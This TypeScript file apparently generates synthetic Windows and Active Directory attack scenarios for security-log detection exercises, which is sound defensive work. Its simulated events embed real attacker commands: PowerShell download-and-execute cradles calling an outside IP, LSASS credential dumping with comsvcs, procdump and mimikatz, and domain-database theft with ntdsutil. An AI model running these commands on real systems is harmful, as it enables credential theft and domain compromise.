/** Attacks on Windows hosts and Active Directory. */
import type { Plot } from "./plot.ts";
import { plot } from "./plot.ts";
import type { Actor, Host } from "../types.ts";
import { DAY, HOUR, MINUTE, range } from "../util.ts";
import { hostingNet } from "../places.ts";

const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD = "C:\\Windows\\System32\\cmd.exe";

export const windowsPlots: Plot[] = [
  plot("service-tickets-collected", "context", ["account_compromise", "privilege_escalation"], (s) => {
    const { out, rng, key, person, work } = s;
    const victim = person((p) => p.department === "Engineering" || p.department === "Sales");
    const time = work(victim) + HOUR;
    out.idQuery(time - 40_000, victim, victim.host, "ServicePrincipalNames",
      "(&(servicePrincipalName=*)(!(objectClass=computer)))");
    for (const [i, name] of rng.shuffle(["svc_sql_erp", "svc_plm", "svc_http_caq", "svc_cadlic", "svc_mes", "svc_sccm",
      "svc_backup"]).entries()) {
      const ids = out.tgs(time + i * 400, victim.host, victim, victim.host.ip, name, "0x17");
      key(ids);
    }
    return {
      subjects: [victim.sam, victim.host.name],
      summary: "Within seconds tickets with weak encryption are requested for all service accounts, from a workstation " +
        "that uses none of them.",
    };
  }),
  plot("tickets-without-preauthentication", "hard", ["account_compromise"], (s) => {
    const { w, out, rng, key, person, night } = s;
    const victim = person();
    const time = night();
    const targets = rng.some(w.people, rng.int(2, 4));
    targets.forEach((target, i) => key(out.tgt(time + i * 700, victim.host, target, victim.host.ip,
      { preAuth: "0", encryption: "0x17" })));
    return {
      subjects: [victim.host.name, ...targets.map((t) => t.sam)],
      summary: "Tickets of other accounts are requested without preauthentication from one workstation at night, to " +
        "guess their passwords.",
    };
  }),
  plot("replication-by-ordinary-account", "obvious", ["account_compromise", "privilege_escalation"], (s) => {
    const { w, out, rng, key, person, night } = s;
    const victim = person((p) => p.admin !== undefined);
    const actor = rng.chance(0.5) ? victim.admin! : victim;
    const time = night();
    out.logon(time - MINUTE, w.servers.dc1!, actor, 3, victim.host.ip, { ntlm: true });
    for (const i of range(rng.int(3, 6))) {
      key(out.replication(time + i * 800, w.servers.dc1!, actor));
    }
    out.idDirectory(time + MINUTE, "Directory Services replication", actor, "Domain", {}, victim.host);
    return {
      subjects: [actor.sam, victim.host.name, w.servers.dc1!.name],
      summary: "An account which is no domain controller replicates the secrets of the domain from a workstation.",
    };
  }),
  plot("domain-administrator-at-night", "obvious", ["privilege_escalation", "account_compromise"], (s) => {
    const { w, out, rng, key, admin, night, person } = s;
    const thief = admin(w.staff.windows);
    const friend: Actor = rng.chance(0.5) ? person() : w.services.svc_mfp!;
    const time = night();
    const group = rng.pick(["Domain Admins", "Enterprise Admins"]);
    out.logon(time - 3 * MINUTE, w.servers.dc1!, thief.account, 3, thief.person.host.ip, { elevated: true });
    key(out.groupAdd(time, w.servers.dc1!, thief.account, friend, group, group === "Domain Admins" ? 4728 : 4756));
    key(out.idDirectory(time, "Group Membership changed", thief.account, friend, { "TO.GROUP": group }));
    out.logon(time + 20 * MINUTE, w.servers.dc2!, friend, 10, thief.person.host.ip, { elevated: true });
    return {
      subjects: [thief.account.sam, friend.sam, group],
      summary: "In the middle of the night an account becomes domain administrator and opens a session on a domain " +
        "controller.",
    };
  }),
  plot("copy-of-the-domain-database", "obvious", ["account_compromise", "data_exfiltration"], (s) => {
    const { w, out, rng, key, admin, night } = s;
    const thief = admin(w.staff.windows);
    const dc = w.servers[rng.pick(["dc2", "dc3", "dc4"])]!;
    const time = night();
    out.logon(time - 4 * MINUTE, dc, thief.account, 10, w.servers.jump!.ip, { elevated: true });
    key(out.process(time, dc, thief.account,
      rng.pick(["ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\pro\" q q",
      "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit " +
      "C:\\Windows\\Temp\\n.dit"]), "C:\\Windows\\System32\\ntdsutil.exe"));
    out.process(time + 2 * MINUTE, dc, thief.account, "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\s.hiv",
      "C:\\Windows\\System32\\reg.exe");
    out.share(time + 9 * MINUTE, dc, thief.account, thief.person.host.ip, "C$",
      "Windows\\Temp\\pro\\Active Directory\\ntds.dit");
    return {
      subjects: [thief.account.sam, dc.name],
      summary: "The database of the domain is copied on a domain controller and fetched over the administrative share.",
    };
  }),
  plot("memory-of-logon-process-dumped", "obvious", ["account_compromise"], (s) => {
    const { w, out, rng, key, admin, work } = s;
    const thief = admin([...w.staff.windows, ...w.staff.helpdesk]);
    const host: Host = rng.chance(0.5) ? w.servers.jump! : thief.person.host;
    const time = work(thief.person);
    key(out.process(time, host, thief.account,
      rng.pick(["rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full",
      "procdump64.exe -accepteula -ma lsass.exe C:\\Perf\\out.dmp",
      "C:\\Users\\Public\\mk.exe privilege::debug sekurlsa::logonpasswords exit"]),
      "C:\\Windows\\System32\\rundll32.exe", POWERSHELL));
    out.process(time + MINUTE, host, thief.account, "cmd /c del C:\\Windows\\Temp\\*.dmp", CMD);
    return {
      subjects: [thief.account.sam, host.name],
      summary: "The memory of the logon process is dumped to a file to take passwords from it.",
    };
  }),
  plot("remote-service-from-host-to-host", "context", ["account_compromise"], (s) => {
    const { w, out, rng, key, admin, night } = s;
    const thief = admin(w.staff.helpdesk);
    const time = night();
    const hosts = rng.some(w.people.filter((p) => p.site === thief.person.site), rng.int(4, 8)).map((p) => p.host);
    let from = thief.person.host;
    hosts.forEach((host, i) => {
      const at = time + i * 6 * MINUTE;
      out.logon(at, host, thief.account, 3, from.ip, { ntlm: true, elevated: true, workstation: from.name });
      key(out.service(at + 4000, host, thief.account, rng.pick(["PSEXESVC", "BTOBTO", "csexecsvc", rng.hex(8)]),
        `%SystemRoot%\\${rng.hex(8)}.exe`));
      out.process(at + 9000, host, thief.account, "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__167 2>&1", CMD,
        "C:\\Windows\\System32\\services.exe");
      from = host;
    });
    return {
      subjects: [thief.account.sam, ...hosts.map((h) => h.name)],
      summary: "With a help desk account services are started on one workstation after the other, each from the one " +
        "before, at night.",
    };
  }),
  plot("service-account-opens-desktop", "context", ["account_compromise", "insider_threat"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const insider = person((p) => p.department === "IT" || p.department === "Production");
    const account = w.services[rng.pick(["svc_sql_erp", "svc_backup", "svc_mes", "svc_plm"])]!;
    const server = w.servers[rng.pick(["erpApp", "plm", "quality", "fs2"])]!;
    const time = work(insider) + 3 * HOUR;
    key(out.logon(time, server, account, 10, insider.host.ip, { elevated: true }));
    out.winEvent(time - 20_000, insider.host, 4648, insider,
      { TargetUserName: account.sam, TargetServerName: server.name, ProcessName: "C:\\Windows\\System32\\mstsc.exe" });
    key(out.process(time + 3 * MINUTE, server, account, "explorer.exe \\\\FS\\Management",
      "C:\\Windows\\explorer.exe"));
    return {
      subjects: [account.sam, insider.host.name, server.name],
      summary: "A service account opens a desktop session on a server, from the workstation of an employee.",
    };
  }),
  plot("hash-of-administrator-reused", "hard", ["account_compromise"], (s) => {
    const { w, out, rng, key, person, admin, work } = s;
    const victim = person((p) => p.department !== "IT");
    const thief = admin(w.staff.windows);
    const time = work(victim) + 2 * HOUR;
    key(out.logon(time, victim.host, thief.account, 9, "::1", { process: "C:\\Windows\\System32\\svchost.exe" }));
    for (const server of rng.some(["fs1", "plm", "print", "sccm"], 3)) {
      const at = time + rng.int(1, 20) * MINUTE;
      out.ntlm(at - 50, victim.host, thief.account.sam, victim.host.name);
      key(out.logon(at, w.servers[server]!, thief.account, 3, victim.host.ip,
        { ntlm: true, workstation: victim.host.name, elevated: true }));
    }
    return {
      subjects: [thief.account.sam, victim.host.name],
      summary: "An administrator's account logs on to servers by NTLM from the workstation of somebody else, by day " +
        "and without any ticket.",
    };
  }),
  plot("directory-mapped", "context", ["account_compromise"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const victim = person();
    const time = work(victim);
    for (const [i, [type, query]] of ([["AllGroups", "(objectClass=group)"],
      ["AllUsers", "(&(samAccountType=805306368))"], ["AllComputers", "(samAccountType=805306369)"],
      ["AllTrusts", "(objectClass=trustedDomain)"], ["AllGpos", "(objectCategory=groupPolicyContainer)"],
      ["UnconstrainedDelegation", "(userAccountControl:1.2.840.113556.1.4.803:=524288)"],
      ["AdminCount", "(adminCount=1)"]] as const).entries()) {
      key(out.idQuery(time + i * 1500, victim, victim.host, type, query));
    }
    for (const [i, server] of Object.values(w.servers).filter((s) => !s.linux).entries()) {
      out.share(time + 30_000 + i * 900, server, victim, victim.host.ip, "IPC$", "srvsvc");
    }
    out.idQuery(time + 70_000, victim, victim.host, "EnumerateUsers", "SAMR",
      { protocol: "Samr", action: "SAMR query", target: "Domain Admins" });
    out.process(time - 20_000, victim.host, victim,
      `${POWERSHELL} -ep bypass -c "IEX(New-Object Net.WebClient).DownloadString('http://${hostingNet(rng).ip}/h')"`,
      POWERSHELL);
    return {
      subjects: [victim.sam, victim.host.name],
      summary: "A workstation asks the directory for everything and every server for its sessions within a minute.",
    };
  }),
  plot("certificate-in-another-name", "hard", ["privilege_escalation", "account_compromise"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const victim = person();
    const target = rng.pick(w.staff.windows).admin!;
    const time = work(victim);
    const request = String(rng.int(400, 4000));
    out.winEvent(time, w.servers.ca!, 4886, victim,
      { RequestId: request, Requester: `${w.netbios}\\${victim.sam}`,
      Attributes: `CertificateTemplate:EngineeringWeb\nSAN:upn=${target.sam}@${w.adDomain}` });
    key(out.winEvent(time + 300, w.servers.ca!, 4887, victim,
      { RequestId: request, Requester: `${w.netbios}\\${victim.sam}`,
      Attributes: `CertificateTemplate:EngineeringWeb\nSAN:upn=${target.sam}@${w.adDomain}`, Disposition: "3",
      Subject: `CN=${victim.name}` }));
    key(out.tgt(time + 4 * MINUTE, victim.host, target, victim.host.ip, { certificate: `${w.netbios}-CA-01` }));
    return {
      subjects: [victim.sam, target.sam, victim.host.name],
      summary: "An ordinary user gets a certificate in the name of an administrator from a careless template, and a " +
        "ticket with it.",
    };
  }),
  plot("task-on-all-hosts-by-policy", "hard", ["account_compromise", "sabotage"], (s) => {
    const { w, out, rng, key, admin, day, at: clock } = s;
    const thief = admin(w.staff.windows);
    const time = clock(day, rng.real(18, 20));
    const policy = `CN={${rng.uuid().toUpperCase()}},CN=Policies,CN=System,DC=${w.adDomain.split(".").join(",DC=")}`;
    key(out.directoryChange(time, thief.account, policy, "gPCMachineExtensionNames",
      "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"));
    const hosts = rng.some(w.people, 5).map((p) => p.host);
    hosts.forEach((host, i) => key(out.task(time + (40 + i * 11) * MINUTE, host,
      { ...thief.account, sam: "SYSTEM", sid: "S-1-5-18" }, "\\TimeSync",
      `\\\\${w.adDomain}\\SYSVOL\\${w.adDomain}\\scripts\\ts.exe`)));
    return {
      subjects: [thief.account.sam, ...hosts.map((h) => h.name)],
      summary: "A policy that is changed next to ordinary ones makes a task with a program from the domain share on " +
        "workstations.",
    };
  }),
  plot("computer-account-for-delegation", "context", ["privilege_escalation"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const victim = person();
    const time = work(victim) + HOUR;
    const name = `PC${rng.hex(5).toUpperCase()}$`;
    key(out.winEvent(time, w.servers.dc1!, 4741, victim,
      { TargetUserName: name, SamAccountName: name, TargetDomainName: w.netbios,
      TargetSid: `${w.sidBase}-${rng.int(6000, 9000)}` }));
    key(out.directoryChange(time + 3 * MINUTE, victim,
      `CN=${w.servers.plm!.name},OU=Servers,DC=${w.adDomain.split(".").join(",DC=")}`,
      "msDS-AllowedToActOnBehalfOfOtherIdentity", "O:BAD:(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;S-1-5-21)"));
    out.tgs(time + 5 * MINUTE, victim.host, rng.pick(w.staff.windows).admin!, victim.host.ip, `${w.servers.plm!.name}$`,
      "0x12", name);
    return {
      subjects: [victim.sam, name, w.servers.plm!.name],
      summary: "An ordinary user makes a computer account and lets it act for others on the PLM server.",
    };
  }),
  plot("encoded-command-and-persistence", "context", ["account_compromise"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const victim = person((p) => p.department !== "IT");
    const time = work(victim);
    const encoded = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${hostingNet(rng).ip}/a')`,
      "utf16le").toString("base64");
    key(out.process(time, victim.host, victim, `powershell.exe -w hidden -nop -enc ${encoded}`, POWERSHELL,
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"));
    key(out.task(time + 40_000, victim.host, victim,
      `\\${rng.pick(["OneDriveUpdate", "AdobeFlashSync", "GoogleUpdateCore"])}`,
      `C:\\Users\\${victim.sam}\\AppData\\Roaming\\${rng.hex(6)}.exe`));
    for (const i of range(4)) {
      out.process(time + (3 + i) * MINUTE, victim.host, victim,
        ["whoami /all", "net group \"Domain Admins\" /domain", "nltest /domain_trusts", "systeminfo"][i]!, CMD,
        POWERSHELL);
    }
    return {
      subjects: [victim.sam, victim.host.name],
      summary: `Excel starts a hidden encoded command on a workstation of ${w.organization}; a task keeps the intruder ` +
        `there, and he looks around.`,
    };
  }),
  plot("one-password-for-all-by-ntlm", "obvious", ["account_compromise"], (s) => {
    const { w, out, rng, key, person, night } = s;
    const source = person();
    const time = night();
    const targets = rng.some(w.people, rng.int(35, 55));
    targets.forEach((target, i) => {
      out.logonFail(time + i * 1100, w.servers.dc1!, target.sam, 3, source.host.ip, { workstation: source.host.name });
      if (i % 3 === 0) {
        out.ntlm(time + i * 1100, w.servers.dc1!, target.sam, source.host.name, "0xc000006a");
      }
    });
    const hit = rng.pick(targets);
    key(out.logon(time + 70_000, w.servers.dc1!, hit, 3, source.host.ip,
      { ntlm: true, workstation: source.host.name }));
    key(out.idLogon(time + 70_000, hit, source.host, source.host.ip,
      { protocol: "Ntlm", type: "Credentials validation" }));
    return {
      subjects: [source.host.name, source.host.ip, hit.sam],
      summary: "From one workstation a password is tried on the accounts of the domain by NTLM; one fits.",
    };
  }),
  plot("rights-on-protected-template", "context", ["privilege_escalation", "account_compromise"], (s) => {
    const { w, out, key, admin, work, person } = s;
    const thief = admin(w.staff.windows);
    const friend = person((p) => p.department === "IT" || p.department === "Engineering");
    const time = work(thief.person);
    key(out.directoryChange(time, thief.account, `CN=AdminSDHolder,CN=System,DC=${w.adDomain.split(".").join(",DC=")}`,
      "nTSecurityDescriptor", `O:DAG:DAD:PAI(A;;GA;;;${friend.sid})`));
    return {
      subjects: [thief.account.sam, friend.sam],
      summary: "Full control on the template of protected accounts is given to an ordinary account, which an hour " +
        "later covers all administrators.",
    };
  }),
  plot("foreign-remote-control-installed", "context", ["account_compromise", "policy_violation"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const victim = person((p) => p.department === "Finance" || p.department === "Engineering" ||
      p.department === "Logistics");
    const time = work(victim);
    const [name, file] = rng.pick([["AnyDesk Service", "C:\\ProgramData\\AnyDesk\\AnyDesk.exe --service"],
      ["ScreenConnect Client (a81f)", "C:\\Program Files (x86)\\ScreenConnect Client\\ScreenConnect.ClientService.exe"],
      ["RustDesk", "C:\\Users\\Public\\rustdesk.exe --service"]] as const);
    key(out.service(time, victim.host, victim, name, file));
    out.web(time - 2 * MINUTE, victim, victim.host.ip, "https://support-center.example/client.exe",
      "Remote Access Tools", { received: 5_300_000 });
    key(out.process(time + 5 * MINUTE, victim.host, victim, `${file.split(" --")[0]} --with-password`,
      file.split(" --")[0]!));
    out.traffic(time + 6 * MINUTE, victim.site, victim.host.ip, hostingNet(rng).ip,
      { port: 7070, sent: 2e7, received: 9e6, app: "remote-access", user: `${w.netbios}\\${victim.sam}` });
    return {
      subjects: [victim.sam, victim.host.name],
      summary: "After a call a user installs a remote control program that IT does not use, and somebody takes over " +
        "the desktop.",
    };
  }),
  plot("local-administrator-on-engineering-workstation", "context", ["privilege_escalation", "policy_violation"],
    (s) => {
    const { w, out, rng, key, person, work } = s;
    const insider = person((p) => p.department === "Engineering" || p.department === "Quality");
    const time = work(insider);
    const local: Actor = { ...insider, kind: "person", sam: rng.pick(["tester", "lokal", "wks"]),
      sid: `S-1-5-21-${rng.int(1e8, 9e8)}-1009` } as Actor;
    key(out.account(time, insider.host, insider, 4720, local, { TargetDomainName: insider.host.name }));
    key(out.groupAdd(time + 9000, insider.host, insider, local, "Administrators", 4732));
    out.logon(time + DAY, insider.host, local, 2, "127.0.0.1", { elevated: true });
    return {
      subjects: [insider.sam, insider.host.name, local.sam],
      summary: `On an engineering workstation of ${w.netbios} a local administrator is made past IT and used the next ` +
        `day.`,
    };
  }),
];
